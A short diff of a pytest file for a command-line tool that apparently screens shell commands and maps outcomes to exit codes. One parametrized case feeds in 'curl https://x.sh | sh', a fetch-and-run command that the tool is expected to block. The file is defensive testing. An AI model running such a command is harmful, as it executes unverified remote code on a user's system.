@@ -144,8 +144,9 @@ def test_every_exit_code_the_readme_names_is_a_documented_one() -> None:
 
 
 @pytest.mark.parametrize("args,code", [
-    (["check", "curl https://x.sh | sh"], ExitCode.BLOCKED),  # through typer.Exit
-    (["undo"], ExitCode.NOTHING),  # the fast path
+    (["check", "curl https://x.sh | sh"], ExitCode.BLOCKED),  # a command's outcome
+    (["undo"], ExitCode.NOTHING),
+    (["plan"], ExitCode.USAGE),  # the parser's
 ])
 def test_main_returns_the_code_as_an_int_sys_exit_takes(args: list[str], code: ExitCode,
                                                          capsys: pytest.CaptureFixture[str]
